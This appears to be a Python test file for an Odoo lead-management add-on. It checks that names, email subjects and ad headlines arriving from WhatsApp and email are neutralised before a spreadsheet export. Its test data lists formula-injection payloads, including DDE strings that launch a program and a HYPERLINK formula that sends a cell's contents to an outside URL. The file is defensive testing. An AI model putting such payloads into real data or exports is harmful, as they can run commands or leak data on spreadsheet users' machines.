"""What strangers write, from the door to the sheet a manager downloads."""

from io import BytesIO

import xlsxwriter

from odoo.tools import mute_logger

from odoo.addons.lead_management.tests.common import LeadManagementCase

from .whatsapp_common import WhatsappCase

LINK = '=HYPERLINK("https://example.com/?"&A1,"Click")'
HOSTILE = (
    LINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "\x00=1+1",
    "\u200b=1+1",
    "\ud800=1+1",
)
MAIL = """From: {sender}
To: sales@example.com
Subject: {subject}
Message-Id: <{number}@example.com>
Date: Mon, 5 Jan 2026 10:00:00 +0000
Content-Type: text/plain; charset=utf-8

Hello
"""


class SheetCase(LeadManagementCase):
    def _assert_harmless(self, lead):
        """Write what is known of a lead into a sheet, as Odoo's export does."""
        names = ("name", "contact_name", "partner_name", "email_from", "referred")
        workbook = xlsxwriter.Workbook(BytesIO(), {"in_memory": True})
        sheet = workbook.add_worksheet()
        for column, name in enumerate(names):
            sheet.write(0, column, lead[name] or "")
            cell = type(sheet.table[0][column]).__name__ if lead[name] else "String"
            self.assertEqual(cell, "String", f"{name}: {lead[name]!r}")
            # sheets of text take more for a formula
            first = (lead[name] or " ")[0]
            self.assertNotIn(first, "=\t\r", f"{name}: {lead[name]!r}")
        workbook.close()


class TestWhatsapp(SheetCase, WhatsappCase):
    def test_names_of_profiles(self):
        for number, name in enumerate(HOSTILE):
            with self.subTest(name=name):
                message = self._message(f"wamid.{number}", sender=f"3460011122{number}")
                event = self._receive(message, name=name)
                lead = event.lead_id
                self.assertTrue(lead.contact_name.startswith("'"), lead.contact_name)
                self._assert_harmless(lead)
                contact = self.env["lead.whatsapp.contact"].search(
                    [("sender", "=", f"3460011122{number}")]
                )
                self.assertEqual(contact.name, lead.contact_name)

    def test_ordinary_names_stay(self):
        for number, name in enumerate(("-Anna", "@ola", "Zoë 🌸", "+48 600 100 200")):
            message = self._message(f"wamid.{number}", sender=f"3460011122{number}")
            event = self._receive(message, name=name)
            self.assertEqual(event.lead_id.contact_name, name)

    def test_the_advertisement(self):
        referral = {"source_url": "https://fb.me/x", "headline": LINK}
        event = self._receive(self._message(sender="34600111222", referral=referral))
        self.assertEqual(event.lead_id.referred, f"'{LINK}")


class TestMail(SheetCase):
    def _receive(self, sender, subject, number=1):
        source = MAIL.format(sender=sender, subject=subject, number=number)
        with mute_logger("odoo.addons.mail.models.mail_thread"):
            lead_id = self.env["mail.thread"].message_process("crm.lead", source)
        return self.env["crm.lead"].browse(lead_id)

    def test_subjects_and_senders(self):
        lead = self._receive("=1+1@example.com", "=1+1")
        self.assertEqual(lead.name, "'=1+1")
        self.assertEqual(lead.email_normalized, "=1+1@example.com")
        self._assert_harmless(lead)

    def test_a_sender_becomes_a_contact(self):
        lead = self._receive('"=1+cmd|x" <eve@example.com>', "Hello", 2)
        self.assertEqual(lead.email_normalized, "eve@example.com")
        partner = lead._create_customer()
        self.assertEqual(partner.name, "'=1+cmd|x")

    def test_ordinary_mails_stay(self):
        lead = self._receive('"Müller, Jörg" <jm@example.com>', "Re: -20 % (today)", 3)
        self.assertEqual(lead.name, "Re: -20 % (today)")
        self.assertEqual(lead.email_from, '"Müller, Jörg" <jm@example.com>')
        self.assertEqual(self._receive("a@example.com", "", 4).name, "No Subject")
